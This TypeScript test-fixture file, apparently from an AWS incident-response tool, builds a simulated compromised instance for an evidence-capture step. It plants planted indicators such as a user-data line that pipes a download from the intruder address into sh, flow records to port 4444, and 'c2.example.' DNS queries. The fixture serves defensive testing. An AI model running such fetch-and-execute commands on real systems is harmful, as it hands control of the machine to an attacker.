import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import {
  ADMINISTRATOR_ACCESS,
  addAccelerator,
  addAssociation,
  addBucket,
  addCloudMapService,
  addFinding,
  addFlowLog,
  addHostedZone,
  addImage,
  addKey,
  addLaunchTemplate,
  addLoadBalancer,
  addLogGroup,
  addManagedPolicy,
  addQueryLogConfig,
  addSession,
  addSnapshot,
  addTargetGroup,
  addTrailEvent,
  type TrailEvent,
} from '@cordon/testkit';
import type { Observation } from '../../../../src/engine/observation.js';
import { IncidentPipeline } from '../../../../src/engine/pipeline.js';
import { runIncident } from '../../../../src/host/run-incident.js';
import { controlPlaneEvidence } from '../../../../src/steps/capture/control-plane/control-plane-evidence.js';
import { inspect } from '../../../../src/steps/inspect/inspect.js';
import {
  ENI,
  FINDING,
  INSTANCE,
  REGION,
  SUSPECT,
  type SuspectOptions,
  type SuspectWorld,
  suspectWorld,
  VPC,
} from '../../world/suspect-world.js';

const PIPELINE = IncidentPipeline.create('t').use(inspect()).use(controlPlaneEvidence());

export const run = ({ options }: SuspectWorld, finding: Partial<typeof FINDING> = {}) =>
  runIncident(PIPELINE, { ...FINDING, ...finding }, options);

export const ROLE_SESSION = {
  principal: `arn:aws:sts::${SUSPECT}:assumed-role/shop-frontend/${INSTANCE}`,
  principalId: `AROAEXAMPLE:${INSTANCE}`,
  accessKeyId: 'ASIAEXAMPLESTOLENKEY',
};

/** The address that the instance has in these tests, and that of the intruder. */
export const OWN = '198.51.100.23';
export const INTRUDER = '203.0.113.66';

export const HOUR = 3_600_000;

/** Puts a call of the role's session into the trail, an hour ago unless told. */
export function roleCalled(
  world: SuspectWorld,
  event: Partial<TrailEvent> & Pick<TrailEvent, 'service' | 'name'>,
) {
  addTrailEvent(world.region, {
    ...ROLE_SESSION,
    at: new Date(world.world.now().getTime() - HOUR),
    readOnly: true,
    sourceAddress: OWN,
    ...event,
  });
}

export async function observed(world: SuspectWorld, incidentId: string): Promise<readonly Observation[]> {
  const entries = await (await world.journal.visit(incidentId)).read();
  return entries.flatMap((entry) => (entry.kind === 'observations' ? entry.body.observations : []));
}

/** What a run of the step observes. */
export async function seenAfter(world: SuspectWorld, finding: Partial<typeof FINDING> = {}) {
  const { incidentId } = await run(world, finding);
  return observed(world, incidentId);
}

/** What the step could not take, as it says it. */
export async function gaps(world: SuspectWorld, incidentId: string): Promise<readonly string[]> {
  const entries = await (await world.journal.visit(incidentId)).read();
  return entries.flatMap((entry) =>
    entry.kind === 'notice' && entry.ledger === 'capture.control-plane'
      ? [`${entry.body.code} ${entry.body.message}`]
      : [],
  );
}

export const jsonLines = (text: string | undefined) =>
  (text ?? '')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));

export const LOG_BUCKET = 'shop-logs-111122223333';

/** `20261120T0335Z` */
const stamp = (at: Date) =>
  at
    .toISOString()
    .replace(/[-:]/g, '')
    .replace(/\d\d\.\d+Z$/, 'Z');
const folder = (at: Date) => at.toISOString().slice(0, 10).replaceAll('-', '/');

export async function putLog({ world }: SuspectWorld, key: string, body: string): Promise<void> {
  const s3 = new S3Client({ region: REGION, credentials: world.account(SUSPECT).credentials() });
  await s3.send(new PutObjectCommand({ Bucket: LOG_BUCKET, Key: key, Body: body }));
}

function placeLogs(world: SuspectWorld, ago: (minutes: number) => Date) {
  const stream = `${ENI}-all`;
  const record = `2 ${SUSPECT} ${ENI} 10.20.3.44 ${INTRUDER} 40000 4444 6 10 840 1 2 ACCEPT OK`;
  addLogGroup(world.region, {
    name: '/vpc/flow',
    events: [
      { at: ago(90), stream, message: record },
      { at: ago(30), stream, message: record },
      { at: ago(30), stream: 'eni-0ffffffffffffffff-all', message: 'of another' },
    ],
  });
  addFlowLog(world.region, { resourceId: VPC, destination: { logGroup: '/vpc/flow' } });
  const query = (instance: string) => JSON.stringify({ query_name: 'c2.example.', srcids: { instance } });
  addLogGroup(world.region, {
    name: '/vpc/dns',
    events: [
      { at: ago(40), stream: VPC, message: query(INSTANCE) },
      { at: ago(40), stream: VPC, message: query('i-0ffffffffffffffff') },
    ],
  });
  addQueryLogConfig(world.region, {
    name: 'dns',
    vpcIds: [VPC],
    destinationArn: `arn:aws:logs:${REGION}:${SUSPECT}:log-group:/vpc/dns:*`,
  });
}

async function placeBalancerLogs(world: SuspectWorld, at: Date): Promise<void> {
  const balancer = addLoadBalancer(world.region, {
    name: 'shop',
    accessLogs: { bucket: LOG_BUCKET, prefix: 'alb' },
  });
  addTargetGroup(world.region, {
    name: 'shop',
    vpcId: VPC,
    targets: [INSTANCE],
    loadBalancerArns: [balancer],
  });
  addBucket(world.world, LOG_BUCKET, { account: SUSPECT, region: REGION });
  const id = balancer.split('/').at(-1);
  const path = `alb/AWSLogs/${SUSPECT}/elasticloadbalancing/${REGION}/${folder(at)}`;
  const name = (of: string) =>
    `${SUSPECT}_elasticloadbalancing_${REGION}_app.${of}_${stamp(at)}_10.20.1.5_abc.log.gz`;
  await putLog(world, `${path}/${name(`shop.${id}`)}`, 'what the balancer saw');
  await putLog(world, `${path}/${name('other.0000000000000000')}`, 'of another balancer');
}

/** A name, an accelerator and a service of Cloud Map that lead to the suspect. */
function placeEntryPoints({ account, region }: SuspectWorld): void {
  addHostedZone(account, {
    name: 'shop.example',
    records: [{ name: 'www.shop.example', type: 'A', values: [OWN] }],
  });
  addAccelerator(account, {
    name: 'shop',
    listeners: [{ endpointGroups: [{ region: REGION, endpointIds: [INSTANCE] }] }],
  });
  addCloudMapService(region, {
    name: 'shop',
    instances: [{ id: 'one', attributes: { AWS_INSTANCE_IPV4: '10.20.3.44' } }],
  });
}

const KEY = '11111111-2222-4333-8444-555555555555';

/** What the suspect was made from, and what was made of it. */
function placeOrigins(world: SuspectWorld): void {
  addImage(world.region, { id: world.instance()?.imageId ?? '', name: 'shop' });
  addKey(world.region, { id: KEY });
  addLaunchTemplate(world.region, {
    id: 'lt-0123456789abcdef0',
    name: 'shop',
    versions: [{ UserData: Buffer.from('#!/bin/sh\nsystemctl start shop\n').toString('base64') }],
  });
  addSnapshot(world.region, { volumeId: 'vol-0aaaaaaaaaaaaaaaa' });
}

/** A suspect of which every source has something to tell. */
export async function everythingThere(options: SuspectOptions = {}): Promise<SuspectWorld> {
  const world = suspectWorld({
    ...options,
    instance: {
      userData: Buffer.from('#!/bin/sh\ncurl http://203.0.113.66/x | sh\n').toString('base64'),
      consoleOutput: 'boot',
      tags: { 'aws:ec2launchtemplate:id': 'lt-0123456789abcdef0', 'aws:ec2launchtemplate:version': '1' },
      volumes: [
        {
          id: 'vol-0aaaaaaaaaaaaaaaa',
          device: '/dev/xvda',
          kmsKeyArn: `arn:aws:kms:${REGION}:${SUSPECT}:key/${KEY}`,
        },
      ],
      ...options.instance,
    },
  });
  const now = world.world.now().getTime();
  const ago = (minutes: number) => new Date(now - minutes * 60_000);
  placeOrigins(world);
  const policy = addManagedPolicy(world.account, 'shop', ADMINISTRATOR_ACCESS, ADMINISTRATOR_ACCESS);
  world.role.attached.push(policy);
  addSession(world.region, { instanceId: INSTANCE, owner: `arn:aws:iam::${SUSPECT}:user/mallory` });
  addAssociation(world.region, { instanceId: INSTANCE, document: 'AWS-RunShellScript' });
  addFinding(world.region, {
    id: FINDING.id,
    service: { detectorId: 'd0' },
    resource: { instanceDetails: { instanceId: INSTANCE } },
  });
  placeEntryPoints(world);
  placeLogs(world, ago);
  await placeBalancerLogs(world, ago(50));
  roleCalled(world, { service: 'secretsmanager', name: 'GetSecretValue' });
  roleCalled(world, { service: 'secretsmanager', name: 'GetSecretValue', sourceAddress: INTRUDER });
  return world;
}
